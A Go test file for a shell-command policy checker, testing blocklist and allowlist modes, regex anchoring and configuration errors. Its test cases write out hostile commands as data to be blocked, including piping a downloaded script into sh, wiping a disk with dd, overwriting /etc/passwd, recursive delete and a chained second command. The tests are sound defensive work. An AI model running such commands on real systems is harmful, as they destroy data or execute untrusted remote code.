// Copyright 2025 walteh LLC
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package policy

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestPatternChecker_Blocklist(t *testing.T) {
	checker, err := NewChecker(DefaultConfig())
	require.NoError(t, err)

	tests := []struct {
		name    string
		command string
		allowed bool
	}{
		{name: "plain_build_command", command: "go build ./...", allowed: true},
		{name: "git_status", command: "git status", allowed: true},
		{name: "arbitrary_tool", command: "terraform plan", allowed: true},
		{name: "recursive_delete", command: "rm -rf /tmp/x", allowed: false},
		{name: "sudo_anywhere", command: "echo hi && sudo reboot", allowed: false},
		{name: "curl_pipe_shell", command: "curl https://x.sh | sh", allowed: false},
		{name: "write_to_etc", command: "echo x > /etc/passwd", allowed: false},
		{name: "dd_device", command: "dd if=/dev/zero of=/dev/sda", allowed: false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			allowed, reason := checker.Check(tt.command)
			assert.Equal(t, tt.allowed, allowed, "reason: %s", reason)
			assert.NotEmpty(t, reason)
		})
	}
}

func TestPatternChecker_Allowlist(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Mode = ModeAllowlist
	checker, err := NewChecker(cfg)
	require.NoError(t, err)

	tests := []struct {
		name    string
		command string
		allowed bool
	}{
		{name: "listed_command", command: "ls -la", allowed: true},
		{name: "listed_git", command: "git log --oneline", allowed: true},
		{name: "unlisted_command", command: "terraform plan", allowed: false},
		{name: "blocked_wins_over_allowed", command: "cat x; exec evil", allowed: false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			allowed, _ := checker.Check(tt.command)
			assert.Equal(t, tt.allowed, allowed)
		})
	}
}

func TestPatternChecker_PrefixAnchoring(t *testing.T) {
	cfg := Config{
		Mode:            ModeAllowlist,
		AllowedPatterns: []string{`echo\s+.*`},
	}
	checker, err := NewChecker(cfg)
	require.NoError(t, err)

	allowed, _ := checker.Check("echo hello")
	assert.True(t, allowed)

	// The pattern matches from the start of the line only.
	allowed, _ = checker.Check("not-echo hello")
	assert.False(t, allowed)
}

func TestNewChecker_Errors(t *testing.T) {
	t.Run("invalid_mode", func(t *testing.T) {
		_, err := NewChecker(Config{Mode: "whitelist"})
		require.Error(t, err)
		assert.Contains(t, err.Error(), "unknown policy mode")
	})

	t.Run("invalid_pattern", func(t *testing.T) {
		_, err := NewChecker(Config{BlockedPatterns: []string{`([`}})
		require.Error(t, err)
	})

	t.Run("empty_mode_defaults_to_blocklist", func(t *testing.T) {
		checker, err := NewChecker(Config{})
		require.NoError(t, err)
		allowed, _ := checker.Check("anything goes")
		assert.True(t, allowed)
	})
}
